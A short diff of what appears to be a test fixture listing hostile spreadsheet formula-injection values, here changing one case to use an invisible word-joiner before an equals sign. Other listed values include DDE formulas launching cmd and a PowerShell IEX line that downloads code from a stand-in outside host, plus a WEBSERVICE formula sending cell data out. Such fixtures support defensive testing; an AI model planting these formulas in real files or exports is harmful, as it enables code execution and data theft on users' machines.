@@ -56,7 +56,7 @@ VALUES: Final = (
     Hostile("formula with +", SHEET, "+1+cmd|' /C calc'!A1"),
     Hostile("formula with -", SHEET, "-2+3+cmd|' /C calc'!A1"),
     Hostile("formula with @", SHEET, "@SUM(1+1)*cmd|' /C calc'!A1"),
-    Hostile("formula behind a space", SHEET, "\u00a0=1+1"),
+    Hostile("formula behind what is not seen", SHEET, "\u2060=1+1"),
     Hostile("formula in full width", SHEET, "\uff1d1+1"),
     Hostile("DDE", SHEET, "=cmd|'/C powershell IEX(wget outside.example)'!A0"),
     Hostile("web service", SHEET, f"=WEBSERVICE(\"{OUTSIDE}/\"&A1)"),
